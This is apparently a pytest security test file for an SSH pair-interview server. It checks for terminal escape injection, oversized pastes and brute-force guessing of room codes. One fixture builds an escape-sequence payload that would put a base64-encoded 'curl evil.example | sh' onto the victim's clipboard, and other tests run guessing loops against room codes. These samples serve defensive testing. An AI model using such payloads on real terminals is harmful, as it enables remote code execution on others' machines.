"""Attacks on `mockint serve` from loopback, with the real `ssh` client (and a small asyncssh
client where OpenSSH cannot do what an attacker's script does): a candidate writing escape
sequences to the interviewer's terminal, a scratchpad line that ended the interviewer's
session, pastes larger than a pty takes at once, and guessing room codes."""

from __future__ import annotations

import asyncio
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from tests.pair.guess import guess_on_one_connection
from tests.pair.sshterm import Panes, Server, open_room

pytestmark = [pytest.mark.tmux, pytest.mark.slow]

# After each escape, 32 characters that Textual's input parser takes as keys while it looks
# for the end of the sequence: what follows them then lands in the pasted text unchanged.
SKIP = "." * 32
OSC52 = "]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=="  # `curl evil.example | sh` to the clipboard
PAYLOAD = (
    f"before \x1b{SKIP}{OSC52}\x07 mid \x1b{SKIP}]0;PWNED-TITLE\x07 "
    f"\x1b{SKIP}[2J\x1b{SKIP}[HFAKE-VERDICT after"
)
# What the payload would do on the interviewer's terminal if it arrived there raw.
RAW = [b"\x1b]52", b"\x1b]0;PWNED", b"\x1b[2J", b"\x1b[HFAKE", b"\x07"]
LONG_SUM = "x = " + "+".join(["1"] * 1500)  # 3 KB: it ended the interviewer's session


def paste_raw(panes: Panes, name: str, text: str) -> None:
    """The bytes a terminal sends for a bracketed paste of `text`, escapes included."""
    data = ("\x1b[200~" + text + "\x1b[201~").encode()
    panes._tmux("send-keys", "-t", name, "-H", *[f"{b:02x}" for b in data])


def paste_file(panes: Panes, name: str, path: Path) -> None:
    """A bracketed paste of a file's text, as a terminal's paste of copied text."""
    panes._tmux("load-buffer", "-b", "big", str(path))
    panes._tmux("paste-buffer", "-p", "-r", "-d", "-b", "big", "-t", name)


def db_rows(sql: str) -> list[tuple]:
    import os

    with sqlite3.connect(os.environ["MOCKINT_DB"]) as conn:
        return conn.execute(sql).fetchall()


def stored_fields() -> str:
    rows = db_rows("SELECT fields FROM pair_room_state")
    return rows[0][0] if rows else ""


def wait_until(predicate, what: str, timeout: float = 60.0) -> None:
    end = time.monotonic() + timeout
    while not predicate():
        assert time.monotonic() < end, f"never happened: {what}"
        time.sleep(0.2)


def run_bytes(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "mockint", *args], capture_output=True, timeout=120
    )


def test_the_candidates_text_cannot_drive_the_interviewers_terminal(server, panes, tmp_path):
    code = open_room(server, panes, server.alice, stages=(3,))  # system design
    panes.open("cand", server.ssh_args(code), width=120, height=40)
    panes.wait_for("cand", r"▶ Requirements")
    record = tmp_path / "interviewer.out"
    panes.pipe("int", record)
    paste_raw(panes, "cand", PAYLOAD)
    # The text arrives, its escapes shown as text rather than sent to the terminal.
    panes.wait_for("int", r"\\x1b\]52;c;Y3Vy")
    panes.send("cand", "F5")  # the capacity scratchpad
    panes.type("cand", LONG_SUM, burst=True)
    panes.wait_for("int", r"error: line too long")
    panes.wait_for("cand", r"error: line too long")
    wait_until(lambda: "PWNED-TITLE" in stored_fields() and "1+1+1" in stored_fields(), "saved")
    out = record.read_bytes()
    assert b"1+1+1" in out  # the recording holds what the mirror drew
    for raw in RAW:
        assert raw not in out, raw
    # The interviewer comes back: the same room, the same line, no traceback.
    panes.send("int", "C-q")
    wait_until(lambda: panes.dead("int"), "the interviewer left")
    panes.open("int", server.ssh_args("interviewer", server.alice))
    panes.wait_for("int", r"error: line too long")
    assert "Traceback" not in panes.screen("int")
    # Reports of the round print none of it to the host's terminal either.
    [(sid,)] = db_rows("SELECT id FROM sessions WHERE mode = 'pair'")
    for args in (["report", str(sid)], ["pair-report", str(sid), "--as", "interviewer"]):
        res = run_bytes(*args)
        assert res.returncode == 0, res.stderr
        assert b"\\x1b]52;c;Y3Vy" in res.stdout  # there, and shown
        assert b"\x1b" not in res.stdout and b"\x07" not in res.stdout, args


def test_a_large_paste_lands_whole_and_a_huge_one_is_refused_with_a_line(server, panes, tmp_path):
    code = open_room(server, panes, server.alice, stages=(1,))  # coding
    panes.open("cand", server.ssh_args(code), width=120, height=40)
    panes.wait_for("cand", r"Stage 1 of \d")
    time.sleep(0.5)
    text = "".join(f"# {i:05d} {'x' * 91}\n" for i in range(1000))  # 100 KB
    assert len(text) == 100_000
    (tmp_path / "paste.txt").write_text(text)
    paste_file(panes, "cand", tmp_path / "paste.txt")
    wait_until(lambda: "# 00999" in stored_fields(), "the paste's end was saved", timeout=120)
    [(fields,)] = db_rows("SELECT fields FROM pair_room_state")
    import json

    code_text = next(v["text"] for k, v in json.loads(fields).items() if k.startswith("code:"))
    assert text in code_text  # whole: every line, in order, nothing cut
    panes.type("cand", "#end")
    wait_until(lambda: "#end" in stored_fields(), "keys after the paste land")
    # 1 MB: more than a field may hold, so refused whole, with a line; keys still land.
    (tmp_path / "huge.txt").write_text("y" * 1_000_000)
    paste_file(panes, "cand", tmp_path / "huge.txt")
    panes.wait_for("cand", r"Paste refused", timeout=120)
    panes.type("cand", "#after")
    wait_until(lambda: "#after" in stored_fields(), "keys after the refused paste land")
    assert "yyyy" not in stored_fields()


def test_guessing_codes_is_blocked_after_the_stated_count(tmp_path, panes):
    server = Server.with_alice(tmp_path)  # defaults: 5 failures a minute, 3 on one connection
    try:
        code = open_room(server, panes, server.alice, stages=(0,))
        # Connections that never try to log in count nothing.
        for _ in range(8):
            with socket.create_connection(("127.0.0.1", server.port), timeout=10) as s:
                assert s.recv(256).startswith(b"SSH-2.0-")
        # Many guesses on one connection: closed after the third.
        guesses = [f"zzzz-{n:04d}".replace("0", "a").replace("1", "b") for n in range(50)]
        g = asyncio.run(guess_on_one_connection(server.port, guesses[0], guesses[1:]))
        assert len(g.sent) == 3 and not g.logged_in, g.sent
        assert all("unknown or expired room code" in b for b in g.banners)
        # A success between failures clears nothing: 3 + 2 more is the limit of 5.
        ok = asyncio.run(guess_on_one_connection(server.port, code, []))
        assert ok.logged_in and ok.banners == []  # in (and gone without opening a session)
        for wrong in ("yyyy-yyy2", "yyyy-yyy3"):
            res = server.run_ssh(wrong, None, "-tt")
            assert "unknown or expired room code" in res.stderr
        res = server.run_ssh(code, None, "-tt")  # now even the live code
        assert res.returncode == 255 and "too many failed logins" in res.stderr
    finally:
        server.stop()


def test_guessing_on_parallel_connections_meets_the_same_limit(tmp_path):
    server = Server(tmp_path).start()
    try:
        results: list[str] = []

        def guess(n: int) -> None:
            res = server.run_ssh(f"wwww-ww{n:02d}".replace("0", "a").replace("1", "b"), None)
            results.append(res.stderr)

        threads = [threading.Thread(target=guess, args=(n,)) for n in range(12)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(60)
        assert len(results) == 12
        checked = [r for r in results if "unknown or expired room code" in r]
        refused = [r for r in results if "too many failed logins" in r]
        assert (len(checked), len(refused)) == (5, 7), results
    finally:
        server.stop()


def test_an_expired_code_is_replaced_on_screen_and_ctrl_o_renews_it(tmp_path, panes):
    server = Server.with_alice(tmp_path, "--code-ttl", "6")
    try:
        first = open_room(server, panes, server.alice, stages=(0,))
        panes.wait_for("int", r"\^o New code")  # the key, named in the footer
        gone = panes.wait_for("int", r"The room code (\S+) expired unused after 6 seconds")
        header = r"Room ([a-z2-9]{4}-[a-z2-9]{4}) ·"
        wait_until(lambda: panes.wait_for("int", header).group(1) != gone.group(1), "new code")
        second = panes.wait_for("int", header).group(1)
        panes.send("int", "C-o")
        panes.wait_for("int", r"no longer works")
        wait_until(lambda: panes.wait_for("int", header).group(1) != second, "renewed")
        for old in {first, gone.group(1), second}:
            res = server.run_ssh(old, None, "-tt")
            assert "unknown or expired room code" in res.stderr, old
        # The candidate gets in with the code on screen (read again if it expired meanwhile).
        for _ in range(3):
            code = panes.wait_for("int", header).group(1)
            panes.open("cand", server.ssh_args(code), width=100, height=30)
            wait_until(lambda: panes.dead("cand") or "Stage 1 of" in panes.screen("cand"), "joined")
            if not panes.dead("cand"):
                break
        panes.wait_for("cand", r"Stage 1 of 1")
        panes.wait_for("int", r"Candidate connected")
    finally:
        server.stop()
